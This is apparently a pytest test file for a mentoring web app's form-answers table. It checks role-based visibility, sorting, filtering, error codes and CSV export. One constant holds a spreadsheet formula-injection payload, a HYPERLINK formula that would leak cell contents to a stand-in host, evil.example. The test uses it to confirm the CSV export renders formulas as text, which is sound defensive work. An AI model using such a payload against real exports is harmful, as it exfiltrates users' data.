"""The forms table pages: one form's answers as a table for whoever may read them, sorted,
filtered and downloaded as CSV, with every row only to those the enrollment page shows
it to."""

from __future__ import annotations

import csv
import io

import pytest

from tests.support import unique
from tests.web.conftest import GENERAL, Scene, World, redirects_to_login

TABLE = f"/p/{GENERAL}/forms/{{form}}/answers"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _contract_scene(world: World, expectations: str) -> Scene:
    """A new matched pair whose learning contract says `expectations`."""
    scene = world.scene(contract=False)
    answers = {**world.sample("learning_contract"), "expectations": expectations}
    world.workflow.submit(scene.mentee_id, "learning_contract", scene.mentee, answers)
    return scene


def _tag(word: str) -> str:
    return unique(word).partition("@")[0]  # e.g. alpha-marker.12


@pytest.fixture(scope="module")
def pairs(world: World) -> dict[str, tuple[Scene, str]]:
    """Two pairs with contracts that say something only they and staff may read: the
    second's starts with a spreadsheet formula. Each with the tag its page shows."""
    first, second = _tag("alpha-marker"), _tag("beta-marker")
    return {
        "one": (_contract_scene(world, first), first),
        "two": (_contract_scene(world, f"{FORMULA} {second}"), second),
    }


def _page(world: World, who: object, form: str = "learning_contract", query: str = "") -> str:
    response = world.browser(who).get(TABLE.format(form=form) + query)  # type: ignore[arg-type]
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    return response.get_data(as_text=True)


def test_nobody_signed_in_is_sent_to_sign_in(world: World) -> None:
    response = world.browser(None).get(TABLE.format(form="learning_contract"))
    assert redirects_to_login(response)


def test_each_role_reads_only_the_rows_the_rules_let_them(
    world: World, pairs: dict[str, tuple[Scene, str]]
) -> None:
    """A mentor (and mentee, and supervisor) reads their own pair's contract, never the
    other pair's; staff read both; anyone else neither."""
    (one, first), (two, second) = pairs["one"], pairs["two"]
    seen = {
        "mentor one": one.mentor,
        "mentee one": one.mentee,
        "supervisor one": one.supervisor,
        "mentor two": two.mentor,
        "coordinator": world.coordinator,
        "admin": world.admin,
        "other program's coordinator": world.other_coordinator,
        "stranger": world.stranger,
    }
    found = {}
    for role, who in seen.items():
        page = _page(world, who)
        found[role] = (first in page, second in page)
    assert found == {
        "mentor one": (True, False),
        "mentee one": (True, False),
        "supervisor one": (True, False),
        "mentor two": (False, True),
        "coordinator": (True, True),
        "admin": (True, True),
        "other program's coordinator": (False, False),
        "stranger": (False, False),
    }


def test_a_confidential_form_is_not_shown_to_the_partner(world: World) -> None:
    """The application is the mentee's and staff's: the mentor's table of it is empty."""
    goals = world.main.secrets["goals"]
    assert goals not in _page(world, world.main.mentor, "mentee_application")
    assert goals in _page(world, world.main.mentee, "mentee_application")
    assert goals in _page(world, world.coordinator, "mentee_application")


def test_sorting_by_a_column_either_way(world: World, pairs: dict[str, tuple[Scene, str]]) -> None:
    first, second = pairs["one"][1], pairs["two"][1]
    query = "?q=-marker.&sort=field:expectations&dir="
    ascending = _page(world, world.coordinator, query=query + "asc")
    descending = _page(world, world.coordinator, query=query + "desc")
    assert ascending.index(second) < ascending.index(first)  # '=' sorts before 'a'
    assert descending.index(first) < descending.index(second)
    assert 'aria-sort="descending"' in descending


def test_filtering_by_text_and_state(world: World, pairs: dict[str, tuple[Scene, str]]) -> None:
    first, second = pairs["one"][1], pairs["two"][1]
    only_first = _page(world, world.coordinator, query=f"?q={first.upper()}")
    assert first in only_first and second not in only_first
    matched = _page(world, world.coordinator, query="?state=matched&q=-marker.")
    assert first in matched and second in matched
    active = _page(world, world.coordinator, query="?state=active&q=-marker.")
    assert first not in active and "No filled form here" in active


@pytest.mark.parametrize(
    "query",
    ["?state=nowhere", "?sort=field:nope", "?dir=sideways", "?page=0", "?page=99", "?page=x"],
)
def test_what_the_table_cannot_be_asked_is_a_400(world: World, query: str) -> None:
    response = world.browser(world.coordinator).get(TABLE.format(form="learning_contract") + query)
    assert response.status_code == 400


def test_an_unknown_form_is_not_found(world: World) -> None:
    assert world.browser(world.coordinator).get(TABLE.format(form="nope")).status_code == 404


def test_the_csv_holds_the_filtered_rows_with_formulas_made_text(
    world: World, pairs: dict[str, tuple[Scene, str]]
) -> None:
    second = pairs["two"][1]
    url = TABLE.format(form="learning_contract") + f".csv?q={second}"
    response = world.browser(world.coordinator).get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Name", "E-mail", "Enrollment state", "Submitted"]
    assert len(body) == 1
    cell = body[0][
        header.index(world.program.forms["learning_contract"].fields["expectations"].label)
    ]
    assert cell == f"'{FORMULA} {second}"  # a spreadsheet shows it as text, never runs it
    mentor_two = world.browser(pairs["one"][0].mentor).get(url)
    assert len(list(csv.reader(io.StringIO(mentor_two.get_data(as_text=True))))) == 1  # header


def test_the_desk_links_every_forms_table_and_the_import_page(world: World) -> None:
    page = world.browser(world.coordinator).get(f"/p/{GENERAL}/coordinator").get_data(as_text=True)
    for form_id in world.program.forms:
        assert f'href="{TABLE.format(form=form_id)}"' in page
    assert f'href="/p/{GENERAL}/import"' in page
